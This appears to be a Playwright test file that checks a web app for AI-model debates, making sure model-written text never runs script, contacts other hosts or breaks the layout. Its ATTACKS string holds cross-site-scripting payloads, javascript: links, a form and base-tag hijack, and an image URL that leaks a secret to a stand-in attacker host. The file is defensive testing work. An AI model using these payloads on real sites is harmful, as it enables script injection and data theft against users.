"""What models may write, in a real browser: nothing of it runs, nothing asks another host, no layout breaks."""

import re

import pytest
from markdown_it import MarkdownIt
from playwright.async_api import expect

from tests.web.browser import NARROW, WIDE, Slow, Stage, Visit

pytestmark = pytest.mark.asyncio(loop_scope="session")

ALARM = "window.__ran = (window.__ran || 0) + 1"
ATTACKS = f"""<script>{ALARM}</script><img src=x onerror="{ALARM}"><svg onload="{ALARM}"><iframe src="//evil.example/">
![leak](http://evil.example/leak?d=SECRET) ![data](data:image/svg+xml,<svg/onload={ALARM}>)

[click](javascript:{ALARM.replace(" ", "%20")}) [again](JaVaScRiPt:alert(1))
[data](data:text/html,<script>{ALARM}</script>)
[fine](https://example.org/) <a href="javascript:{ALARM}">raw</a> <javascript:alert(1)> http://auto.example/

<style>* {{ display: none }}</style><link rel=stylesheet href=//evil.example/a.css>
<meta http-equiv=refresh content="0;url=//evil.example/">
<form action=//evil.example/><button>Approve</button></form>
<base href=//evil.example/><object data=//evil.example/></object>
</div></article></main></section></script><!-- <h1 id="app">Gone</h1>
`<script>{ALARM}</script>` {{{{constructor.constructor('{ALARM}')()}}}} ${{{ALARM}}}

| a | b |
|---|---|
| <img src=x onerror={ALARM}> | [x](vbscript:x) |

[ref]: javascript:alert(1) "x"
[ref]
"""
LONG = "w" * 3000
RTL = "\u202eright to left\u202c \u0627\u0644\u0634\u0627\u064a \u0647\u0627\u062f\u0626 \u2066isolated\u2069"
NAME = "O'Brien-&-Søns (T1) 日本"
BRIEF = f"""---
topic: 'Is <img src=x onerror="{ALARM}"> "safe" </script><!-- & [x](javascript:alert(1))?'
options: ['Yes & "sure" {{0}}', 'No [x](javascript:alert(1))']
participants:
  - name: "{NAME}"
    role: '</title><script>{ALARM}</script>'
  - name: "العربية"
    role: "{LONG[:180]}"
---

Tea is calm.
"""


def hostile(words: str) -> Slow:
    """A model that writes this."""

    def answer(request: object) -> str:
        choice = 'Yes & "sure" {0}' if "You are O'Brien" in str(request) else "No [x](javascript:alert(1))"
        return f"ANSWER: {choice}\nCONFIDENCE: 0.7\nARGUMENT: {words}"

    slow = Slow(answer, size=20_000)
    slow.go()
    return slow


async def test_nothing_that_is_written_runs_or_asks_or_breaks_the_page(stage: Stage) -> None:
    await stage.ended(BRIEF, stage.lend(hostile(f"{ATTACKS}\n{RTL}\n{LONG}")))
    async with stage.visit() as visit:
        for width in (WIDE, NARROW):
            await visit.fit(width)
            await nothing_runs_or_breaks(visit)


async def nothing_runs_or_breaks(visit: Visit) -> None:
    page = await visit.go("/")
    row = page.get_by_role("link").filter(has_text="onerror").first
    await row.click()
    await expect(page.get_by_role("heading", level=1)).to_contain_text("<img src=x onerror=")
    await expect(page.get_by_role("region", name="Decision")).to_be_visible()
    for tab in ("people", "map", "votes", "stances", "details", "talk"):
        button = page.locator(f"#tab-{tab}")
        if not await button.is_visible():
            continue
        await button.click()
        await expect(button).to_have_attribute("aria-selected", "true")
        await page.wait_for_load_state("networkidle")
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), tab
    await page.evaluate("document.querySelectorAll('details:not(.menu)').forEach(each => each.open = true)")
    assert await page.locator("main :is(script, img, iframe, object, base, style, link, meta, form)").count() == 0
    assert await page.evaluate("window.__ran") is None
    for link in await page.locator(".said a").all():
        href = await link.get_attribute("href") or ""
        assert re.match(r"(https?|mailto):", href), href
        assert "noopener" in (await link.get_attribute("rel") or "")
    violations = await visit.eye()
    assert not violations, [(violation["id"], violation["nodes"][0]["html"]) for violation in violations]


async def test_the_attacks_are_real(stage: Stage) -> None:
    async with stage.visit() as visit:
        await visit.page.set_content(MarkdownIt("commonmark", {"html": True}).render(ATTACKS))
        await visit.page.wait_for_function("window.__ran > 0")
        assert any("evil.example" in url for url in visit.foreign)
        visit.foreign.clear()
        visit.errors.clear()


async def test_links_that_are_clicked_run_nothing(stage: Stage) -> None:
    debate = await stage.ended("# Tea or coffee?\n\nTea is calm.\n", stage.lend(hostile(ATTACKS)))
    async with stage.visit() as visit:
        page = await visit.go(f"/d/{debate}")
        await expect(page.get_by_role("region", name="Decision")).to_be_visible()
        for word in ("click", "again", "data", "raw", "x", "ref"):
            for link in await page.locator(".said").get_by_text(word, exact=True).all():
                await link.click()
        assert await page.evaluate("window.__ran") is None
        assert debate in page.url


async def test_a_hostile_report_runs_nothing_from_a_file(
    stage: Stage, tmp_path_factory: pytest.TempPathFactory
) -> None:
    debate = await stage.ended(BRIEF, stage.lend(hostile(ATTACKS)))
    async with stage.visit() as visit:
        for form in ("html", "html?replay=true"):
            answer = await visit.context.request.get(f"{visit.base}/api/v1/debates/{debate}/report.{form}")
            file = tmp_path_factory.mktemp("hostile") / f"report.{form[:4].strip('?')}"
            file.write_bytes(await answer.body())
            await visit.page.goto(file.as_uri())
            await expect(visit.page.locator("body")).to_contain_text("onerror")
            assert await visit.page.evaluate("window.__ran") is None


async def test_a_page_with_very_long_turns_stays_quick(stage: Stage) -> None:
    words = "\n\n".join(f"**{n}.** " + "Tea is calm, and calm is rare. " * 40 for n in range(40))  # some 50 kB
    brief = "# Tea or coffee?\n\nTea is calm.\n"
    debate = await stage.ended(brief, stage.lend(hostile(words)))
    async with stage.visit() as visit:
        page = await visit.go(f"/d/{debate}")
        await expect(page.get_by_role("region", name="Decision")).to_be_visible()
        assert await page.locator("article.turn").first.text_content() != ""
        assert len(await page.locator("article.turn").first.text_content() or "") > 45_000
        slider = page.get_by_role("slider", name="Entry")
        took = await slider.evaluate(
            """async (slider) => {
              const from = performance.now();
              slider.value = 3;
              slider.dispatchEvent(new Event("input", { bubbles: true }));
              await new Promise(requestAnimationFrame);
              return performance.now() - from;
            }"""
        )
        assert took < 10_000, "on a machine with much else to do; alone it is far less than one second"
        await expect(page.locator("article.turn")).to_have_count(0)
